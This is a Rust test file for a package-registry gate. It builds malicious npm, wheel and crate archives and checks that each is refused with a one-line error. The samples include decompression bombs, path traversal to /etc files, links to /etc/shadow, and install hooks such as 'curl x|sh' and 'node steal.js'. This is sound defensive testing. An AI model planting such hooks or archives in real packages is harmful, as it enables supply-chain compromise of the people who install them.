//! Hostile and malformed archives, generated here byte by byte: each is refused with its
//! own error, one line naming the file.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use common::{TarEntry, gzip, tar_bytes, wheel_entries, write_tgz, zip_bytes};
use shipgate_registry::TargetKind;
use shipgate_registry::artifact::{
    ArtifactError, ChangeKind, Declarations, Limits, Subject, check_matches, diff, inspect,
    inspect_with,
};

const PACKAGE_JSON: &[u8] = br#"{"name":"demo","version":"1.0.0","scripts":{"test":"true"}}"#;

fn one_line(error: &ArtifactError, file: &str) -> String {
    let text = error.to_string();
    assert!(!text.contains('\n'), "error is not one line: {text}");
    assert!(
        text.starts_with(file),
        "error does not start with the file name: {text}"
    );
    text
}

#[test]
fn a_valid_npm_tarball_reads() {
    let dir = tempfile::tempdir().unwrap();
    let json = br#"{"name":"@acme/demo","version":"1.0.0",
        "scripts":{"postinstall":"node steal.js","test":"jest"},
        "dependencies":{"left-pad":"^1.3.0"},"devDependencies":{"jest":"29"},
        "bin":"cli.js"}"#;
    let path = write_tgz(
        dir.path(),
        "acme-demo-1.0.0.tgz",
        &[
            TarEntry::Dir(b"package/"),
            TarEntry::File(b"package/package.json", json),
            TarEntry::File(b"package/cli.js", b""),
        ],
    );
    let info = inspect(TargetKind::Npm, "acme-demo-1.0.0.tgz", &path).unwrap();
    assert_eq!(info.name, "@acme/demo");
    assert_eq!(info.version, "1.0.0");
    assert_eq!(info.declares.scripts["postinstall"], "node steal.js");
    assert_eq!(
        info.declares.dependencies["dependencies"]["left-pad"],
        "^1.3.0"
    );
    assert_eq!(info.declares.dependencies["devDependencies"]["jest"], "29");
    assert_eq!(info.declares.bins["demo"], "cli.js");
    check_matches(&info, "@acme/demo", "1.0.0").unwrap();
    // What the gate stores: JSON, and back.
    let json = serde_json::to_string(&info).unwrap();
    assert!(json.contains("\"kind\":\"npm\""), "{json}");
    let back: shipgate_registry::ArtifactInfo = serde_json::from_str(&json).unwrap();
    assert_eq!(back, info);
}

#[test]
fn binding_gyp_is_an_implied_install_script() {
    let dir = tempfile::tempdir().unwrap();
    let path = write_tgz(
        dir.path(),
        "demo.tgz",
        &[
            TarEntry::File(b"package/package.json", PACKAGE_JSON),
            TarEntry::File(b"package/binding.gyp", b"{}"),
        ],
    );
    let info = inspect(TargetKind::Npm, "demo.tgz", &path).unwrap();
    assert!(info.declares.scripts["install"].contains("node-gyp rebuild"));
    assert!(diff(&Declarations::default(), &info.declares).loud);
}

#[test]
fn wrong_name_or_version_is_one_clear_error() {
    let dir = tempfile::tempdir().unwrap();
    let path = write_tgz(
        dir.path(),
        "demo.tgz",
        &[TarEntry::File(b"package/package.json", PACKAGE_JSON)],
    );
    let info = inspect(TargetKind::Npm, "demo.tgz", &path).unwrap();
    let error = check_matches(&info, "other", "1.0.0").unwrap_err();
    assert_eq!(
        one_line(&error, "demo.tgz"),
        r#"demo.tgz: package/package.json name says "demo", expected "other""#
    );
    let error = check_matches(&info, "demo", "1.0.1").unwrap_err();
    assert_eq!(
        error.to_string(),
        r#"demo.tgz: package/package.json version says "1.0.0", expected "1.0.1""#
    );
}

#[test]
fn gzip_bomb_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let zeros = vec![0u8; 64 << 20];
    let path = write_tgz(
        dir.path(),
        "bomb.tgz",
        &[
            TarEntry::File(b"package/package.json", PACKAGE_JSON),
            TarEntry::File(b"package/zeros", &zeros),
        ],
    );
    assert!(
        std::fs::metadata(&path).unwrap().len() < 1 << 20,
        "the bomb should be small"
    );
    let limits = Limits::new(1000, 16 << 20, 1 << 20);
    let error = inspect_with(TargetKind::Npm, "bomb.tgz", &path, &limits).unwrap_err();
    assert!(matches!(error, ArtifactError::TooLarge { .. }), "{error}");
    assert!(one_line(&error, "bomb.tgz").contains("decompression bomb"));
}

#[test]
fn too_many_entries_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    let names: Vec<String> = (0..50).map(|i| format!("package/f{i}")).collect();
    let mut entries = vec![TarEntry::File(b"package/package.json", PACKAGE_JSON)];
    entries.extend(names.iter().map(|n| TarEntry::File(n.as_bytes(), b"x")));
    let path = write_tgz(dir.path(), "many.tgz", &entries);
    let limits = Limits::new(20, 1 << 30, 1 << 20);
    let error = inspect_with(TargetKind::Npm, "many.tgz", &path, &limits).unwrap_err();
    assert!(
        matches!(error, ArtifactError::TooManyEntries { limit: 20, .. }),
        "{error}"
    );
}

#[test]
fn oversized_metadata_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let big = format!(
        r#"{{"name":"demo","version":"1.0.0","description":"{}"}}"#,
        "x".repeat(4096)
    );
    let path = write_tgz(
        dir.path(),
        "big.tgz",
        &[TarEntry::File(b"package/package.json", big.as_bytes())],
    );
    let limits = Limits::new(1000, 1 << 30, 1024);
    let error = inspect_with(TargetKind::Npm, "big.tgz", &path, &limits).unwrap_err();
    assert!(
        matches!(error, ArtifactError::MetadataTooLarge { .. }),
        "{error}"
    );
}

#[test]
fn path_traversal_and_absolute_paths_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    for (name, raw) in [
        ("dotdot.tgz", &b"package/../../etc/cron.d/x"[..]),
        ("absolute.tgz", b"/etc/passwd"),
        ("backslash.tgz", b"package\\..\\x"),
    ] {
        let path = write_tgz(
            dir.path(),
            name,
            &[
                TarEntry::File(b"package/package.json", PACKAGE_JSON),
                TarEntry::File(raw, b"x"),
            ],
        );
        let error = inspect(TargetKind::Npm, name, &path).unwrap_err();
        assert!(
            matches!(error, ArtifactError::UnsafePath { .. }),
            "{name}: {error}"
        );
        one_line(&error, name);
    }
}

#[test]
fn entries_outside_package_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    let path = write_tgz(
        dir.path(),
        "outside.tgz",
        &[
            TarEntry::File(b"package/package.json", PACKAGE_JSON),
            TarEntry::File(b"other/package.json", PACKAGE_JSON),
        ],
    );
    let error = inspect(TargetKind::Npm, "outside.tgz", &path).unwrap_err();
    assert!(error.to_string().contains("outside package/"), "{error}");
}

#[test]
fn duplicate_package_json_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let other = br#"{"name":"evil","version":"6.6.6"}"#;
    let path = write_tgz(
        dir.path(),
        "dup.tgz",
        &[
            TarEntry::File(b"package/package.json", PACKAGE_JSON),
            TarEntry::File(b"package/./package.json", other),
        ],
    );
    let error = inspect(TargetKind::Npm, "dup.tgz", &path).unwrap_err();
    assert!(
        matches!(error, ArtifactError::DuplicateEntry { .. }),
        "{error}"
    );
    assert_eq!(
        error.to_string(),
        r#"dup.tgz: entry "package/package.json" appears more than once"#
    );
}

#[test]
fn symlinks_and_hard_links_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    let path = write_tgz(
        dir.path(),
        "link.tgz",
        &[TarEntry::Symlink(b"package/package.json", b"/etc/passwd")],
    );
    let error = inspect(TargetKind::Npm, "link.tgz", &path).unwrap_err();
    assert!(
        matches!(
            error,
            ArtifactError::NotRegular {
                what: "symbolic link",
                ..
            }
        ),
        "{error}"
    );
    let path = write_tgz(
        dir.path(),
        "hard.tgz",
        &[
            TarEntry::File(b"package/package.json", PACKAGE_JSON),
            TarEntry::HardLink(b"package/x", b"/etc/shadow"),
        ],
    );
    let error = inspect(TargetKind::Npm, "hard.tgz", &path).unwrap_err();
    assert!(
        matches!(
            error,
            ArtifactError::NotRegular {
                what: "hard link",
                ..
            }
        ),
        "{error}"
    );
}

#[test]
fn truncated_gzip_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let whole = gzip(&tar_bytes(&[TarEntry::File(
        b"package/package.json",
        PACKAGE_JSON,
    )]));
    // Cut in the middle, and cut only the trailer (the tar end marker is still there).
    for (name, cut) in [
        ("half.tgz", whole.len() / 2),
        ("trailer.tgz", whole.len() - 4),
    ] {
        let path = dir.path().join(name);
        std::fs::write(&path, &whole[..cut]).unwrap();
        let error = inspect(TargetKind::Npm, name, &path).unwrap_err();
        assert!(
            matches!(error, ArtifactError::Malformed { .. }),
            "{name}: {error}"
        );
        one_line(&error, name);
    }
    let path = dir.path().join("plain.tgz");
    std::fs::write(&path, b"not gzip at all").unwrap();
    assert!(matches!(
        inspect(TargetKind::Npm, "plain.tgz", &path),
        Err(ArtifactError::Malformed { .. })
    ));
}

#[test]
fn missing_metadata_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let path = write_tgz(
        dir.path(),
        "empty.tgz",
        &[TarEntry::File(b"package/index.js", b"")],
    );
    let error = inspect(TargetKind::Npm, "empty.tgz", &path).unwrap_err();
    assert_eq!(
        error.to_string(),
        "empty.tgz: no package/package.json in the archive"
    );
    let path = write_tgz(
        dir.path(),
        "noversion.tgz",
        &[TarEntry::File(b"package/package.json", br#"{"name":"x"}"#)],
    );
    let error = inspect(TargetKind::Npm, "noversion.tgz", &path).unwrap_err();
    assert_eq!(
        error.to_string(),
        "noversion.tgz: package/package.json: version is missing"
    );
}

#[test]
fn non_utf8_metadata_and_names_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    let path = write_tgz(
        dir.path(),
        "latin1.tgz",
        &[TarEntry::File(
            b"package/package.json",
            b"{\"name\":\"d\xe9mo\",\"version\":\"1.0.0\"}",
        )],
    );
    let error = inspect(TargetKind::Npm, "latin1.tgz", &path).unwrap_err();
    assert!(matches!(error, ArtifactError::NotUtf8 { .. }), "{error}");
    let path = write_tgz(
        dir.path(),
        "badname.tgz",
        &[
            TarEntry::File(b"package/package.json", PACKAGE_JSON),
            TarEntry::File(b"package/\xff\xfe", b""),
        ],
    );
    let error = inspect(TargetKind::Npm, "badname.tgz", &path).unwrap_err();
    assert!(matches!(error, ArtifactError::UnsafePath { .. }), "{error}");
}

#[test]
fn a_valid_wheel_reads_and_matches_normalised() {
    let dir = tempfile::tempdir().unwrap();
    let mut entries = wheel_entries();
    entries.push((
        "demo_pkg-1.0.0.dist-info/entry_points.txt",
        b"[console_scripts]\ndemo = demo_pkg:main\n",
    ));
    entries.push(("demo_pkg-hook.pth", b"import os\n"));
    let name = "demo_pkg-1.0.0-py3-none-any.whl";
    let path = dir.path().join(name);
    std::fs::write(&path, zip_bytes(&entries)).unwrap();
    let info = inspect(TargetKind::Pypi, name, &path).unwrap();
    assert_eq!(info.normalized_name, "demo-pkg");
    assert_eq!(
        info.declares.entry_points["console_scripts:demo"],
        "demo_pkg:main"
    );
    assert!(info.declares.pth_files.contains_key("demo_pkg-hook.pth"));
    assert_eq!(
        info.declares.dependencies["requires-dist"]["requests"],
        "requests (>=2)"
    );
    check_matches(&info, "Demo.Pkg", "1.0.0").unwrap();
    check_matches(&info, "demo_pkg", "1.0.0.0").unwrap_err();
    let error = check_matches(&info, "demo-pkg", "1.0.1").unwrap_err();
    assert_eq!(
        error.to_string(),
        format!(r#"{name}: METADATA version says "1.0.0", expected "1.0.1""#)
    );
}

#[test]
fn wheel_names_must_fit_their_tags_and_metadata() {
    let dir = tempfile::tempdir().unwrap();
    let bytes = zip_bytes(&wheel_entries());
    for (name, needle) in [
        ("demo_pkg-1.0.0-py3-none.whl", "PEP 427"),
        (
            "demo_pkg-1.0.0-py3-none-any!.whl",
            "invalid compatibility tag",
        ),
        ("demo_pkg-1.0.0-x1-py3-none-any.whl", "build tag"),
        (
            "demo_pkg-1.0.0-cp311-cp311-manylinux_2_17_x86_64.whl",
            "Tag lines",
        ),
        ("other-1.0.0-py3-none-any.whl", "distribution"),
        ("demo_pkg-2.0-py3-none-any.whl", "version"),
    ] {
        let path = dir.path().join(name);
        std::fs::write(&path, &bytes).unwrap();
        let error = inspect(TargetKind::Pypi, name, &path).unwrap_err();
        let text = one_line(&error, name);
        assert!(text.contains(needle), "{name}: {text}");
    }
}

#[test]
fn zip_bomb_and_zip_hostility_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    let name = "demo_pkg-1.0.0-py3-none-any.whl";
    let path = dir.path().join(name);
    let zeros = vec![0u8; 64 << 20];
    let mut entries = wheel_entries();
    entries.push(("demo_pkg/zeros", &zeros));
    std::fs::write(&path, zip_bytes(&entries)).unwrap();
    let limits = Limits::new(1000, 16 << 20, 1 << 20);
    let error = inspect_with(TargetKind::Pypi, name, &path, &limits).unwrap_err();
    assert!(matches!(error, ArtifactError::TooLarge { .. }), "{error}");

    // A METADATA that inflates beyond the metadata limit.
    let huge = format!("{}\n{}", common::METADATA, "x".repeat(4 << 20));
    let mut entries = wheel_entries();
    entries[1] = ("demo_pkg-1.0.0.dist-info/METADATA", huge.as_bytes());
    std::fs::write(&path, zip_bytes(&entries)).unwrap();
    let error = inspect_with(TargetKind::Pypi, name, &path, &limits).unwrap_err();
    assert!(
        matches!(error, ArtifactError::MetadataTooLarge { .. }),
        "{error}"
    );

    // Traversal inside the zip.
    let mut entries = wheel_entries();
    entries.push(("../../evil.pth", b"import os"));
    std::fs::write(&path, zip_bytes(&entries)).unwrap();
    let error = inspect(TargetKind::Pypi, name, &path).unwrap_err();
    assert!(matches!(error, ArtifactError::UnsafePath { .. }), "{error}");

    // Two METADATA entries: written under different names, then renamed in place.
    let mut entries = wheel_entries();
    entries.push((
        "demo_pkg-1.0.0.dist-info/METADATX",
        b"Metadata-Version: 2.1\nName: evil\nVersion: 6.6.6\n",
    ));
    let mut bytes = zip_bytes(&entries);
    let needle = b"METADATX";
    while let Some(at) = bytes.windows(needle.len()).position(|w| w == needle) {
        bytes[at + 7] = b'A';
    }
    std::fs::write(&path, &bytes).unwrap();
    let error = inspect(TargetKind::Pypi, name, &path).unwrap_err();
    assert!(
        matches!(error, ArtifactError::DuplicateEntry { .. }),
        "{error}"
    );

    // Not a zip at all, and a truncated one.
    std::fs::write(&path, b"PK\x03\x04 garbage").unwrap();
    assert!(matches!(
        inspect(TargetKind::Pypi, name, &path),
        Err(ArtifactError::Malformed { .. })
    ));
    let whole = zip_bytes(&wheel_entries());
    std::fs::write(&path, &whole[..whole.len() - 30]).unwrap();
    assert!(matches!(
        inspect(TargetKind::Pypi, name, &path),
        Err(ArtifactError::Malformed { .. })
    ));
}

#[test]
fn wheel_without_metadata_or_with_bad_version_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let name = "demo_pkg-1.0.0-py3-none-any.whl";
    let path = dir.path().join(name);
    let mut entries = wheel_entries();
    entries.remove(1);
    std::fs::write(&path, zip_bytes(&entries)).unwrap();
    let error = inspect(TargetKind::Pypi, name, &path).unwrap_err();
    assert_eq!(
        error.to_string(),
        format!("{name}: no demo_pkg-1.0.0.dist-info/METADATA in the archive")
    );

    let mut entries = wheel_entries();
    entries[1] = (
        "demo_pkg-1.0.0.dist-info/METADATA",
        b"Metadata-Version: 2.1\nName: demo-pkg\nVersion: one\n",
    );
    std::fs::write(&path, zip_bytes(&entries)).unwrap();
    let error = inspect(TargetKind::Pypi, name, &path).unwrap_err();
    assert!(
        error
            .to_string()
            .contains("Version \"one\" is not a PEP 440 version"),
        "{error}"
    );

    let mut entries = wheel_entries();
    entries[1] = (
        "demo_pkg-1.0.0.dist-info/METADATA",
        b"Name: demo-pkg\nVersion: 1.0\xff\n",
    );
    std::fs::write(&path, zip_bytes(&entries)).unwrap();
    let error = inspect(TargetKind::Pypi, name, &path).unwrap_err();
    assert!(matches!(error, ArtifactError::NotUtf8 { .. }), "{error}");
}

#[test]
fn sdist_and_crate_layouts_are_enforced() {
    let dir = tempfile::tempdir().unwrap();
    let pkg_info = b"Metadata-Version: 2.2\nName: demo_pkg\nVersion: 1.0\n";
    let path = write_tgz(
        dir.path(),
        "demo_pkg-1.0.tar.gz",
        &[
            TarEntry::File(b"demo_pkg-1.0/PKG-INFO", pkg_info),
            TarEntry::File(b"elsewhere/x", b""),
        ],
    );
    let error = inspect(TargetKind::Pypi, "demo_pkg-1.0.tar.gz", &path).unwrap_err();
    assert!(
        error
            .to_string()
            .contains("lies outside the NAME-VERSION/ directory"),
        "{error}"
    );

    let path = write_tgz(
        dir.path(),
        "x.tar.gz",
        &[TarEntry::File(b"demo_pkg-1.0/PKG-INFO", pkg_info)],
    );
    assert!(matches!(
        inspect(TargetKind::Pypi, "x.tar.gz", &path),
        Err(ArtifactError::FileName { .. })
    ));

    let cargo_toml = b"[package]\nname = \"demo\"\nversion = \"0.2.0\"\n";
    let path = write_tgz(
        dir.path(),
        "demo-0.1.0.crate",
        &[TarEntry::File(b"demo-0.1.0/Cargo.toml", cargo_toml)],
    );
    let error = inspect(TargetKind::Cargo, "demo-0.1.0.crate", &path).unwrap_err();
    assert_eq!(
        error.to_string(),
        r#"demo-0.1.0.crate: file name and archive directory says "demo-0.1.0", expected "demo-0.2.0""#
    );

    let evil = b"[package]\nname = \"d\xc3\xa9mo\"\nversion = \"0.1.0\"\n";
    let path = write_tgz(
        dir.path(),
        "x-0.1.0.crate",
        &[TarEntry::File(b"x-0.1.0/Cargo.toml", evil)],
    );
    let error = inspect(TargetKind::Cargo, "x-0.1.0.crate", &path).unwrap_err();
    assert!(
        error.to_string().contains("not a valid crate name"),
        "{error}"
    );

    let path = dir.path().join("demo.zip");
    std::fs::write(&path, b"").unwrap();
    assert!(matches!(
        inspect(TargetKind::Pypi, "demo.zip", &path),
        Err(ArtifactError::UnsupportedFile { .. })
    ));
}

#[test]
fn crate_build_script_and_proc_macro_are_declared() {
    let dir = tempfile::tempdir().unwrap();
    let cargo_toml = b"[package]\nname = \"demo\"\nversion = \"0.1.0\"\nbuild = \"build.rs\"\n\n[lib]\nproc-macro = true\n\n[dependencies.syn]\nversion = \"2\"\nfeatures = [\"full\"]\n\n[target.'cfg(unix)'.dependencies]\nlibc = \"0.2\"\n";
    let path = write_tgz(
        dir.path(),
        "demo-0.1.0.crate",
        &[
            TarEntry::File(b"demo-0.1.0/build.rs", b"fn main() {}"),
            TarEntry::File(b"demo-0.1.0/Cargo.toml", cargo_toml),
        ],
    );
    let info = inspect(TargetKind::Cargo, "demo-0.1.0.crate", &path).unwrap();
    let build = info.declares.build_script.clone().unwrap();
    assert_eq!(build.path, "build.rs");
    assert!(info.declares.proc_macro);
    assert!(info.declares.dependencies["dependencies"]["syn"].contains("full"));
    assert_eq!(
        info.declares.dependencies["target.cfg(unix).dependencies"]["libc"],
        "0.2"
    );
    let first = diff(&Declarations::default(), &info.declares);
    assert!(first.loud);
    assert!(
        first
            .changes
            .iter()
            .any(|c| c.subject == Subject::BuildScript && c.change == ChangeKind::Added && c.loud)
    );
}

#[test]
fn diff_reports_added_changed_removed_and_loud_ones() {
    let dir = tempfile::tempdir().unwrap();
    let old = br#"{"name":"demo","version":"1.0.0","scripts":{"test":"jest","postinstall":"node a.js"},"dependencies":{"a":"1","b":"1"},"bin":{"demo":"cli.js"}}"#;
    let new = br#"{"name":"demo","version":"1.1.0","scripts":{"test":"jest","postinstall":"node b.js","preinstall":"curl x|sh"},"dependencies":{"a":"2","c":"1"}}"#;
    let old_path = write_tgz(
        dir.path(),
        "old.tgz",
        &[TarEntry::File(b"package/package.json", old)],
    );
    let new_path = write_tgz(
        dir.path(),
        "new.tgz",
        &[TarEntry::File(b"package/package.json", new)],
    );
    let old = inspect(TargetKind::Npm, "old.tgz", &old_path).unwrap();
    let new = inspect(TargetKind::Npm, "new.tgz", &new_path).unwrap();
    let changes = diff(&old.declares, &new.declares);
    assert!(changes.loud);
    let find = |subject, key: &str| {
        changes
            .changes
            .iter()
            .find(|c| c.subject == subject && c.key == key)
            .unwrap_or_else(|| panic!("no change for {key}: {changes:?}"))
    };
    assert_eq!(
        find(Subject::Script, "preinstall").change,
        ChangeKind::Added
    );
    assert!(find(Subject::Script, "preinstall").loud);
    assert_eq!(
        find(Subject::Script, "postinstall").change,
        ChangeKind::Changed
    );
    assert!(find(Subject::Script, "postinstall").loud);
    assert_eq!(
        find(Subject::Dependency, "dependencies a").change,
        ChangeKind::Changed
    );
    assert_eq!(
        find(Subject::Dependency, "dependencies b").change,
        ChangeKind::Removed
    );
    assert_eq!(
        find(Subject::Dependency, "dependencies c").change,
        ChangeKind::Added
    );
    assert_eq!(find(Subject::Bin, "demo").change, ChangeKind::Removed);
    assert!(!changes.changes.iter().any(|c| c.key == "test"));
    let quiet = diff(&new.declares, &new.declares);
    assert!(quiet.changes.is_empty() && !quiet.loud);
    let json = serde_json::to_value(&changes).unwrap();
    assert_eq!(json["loud"], true);
}
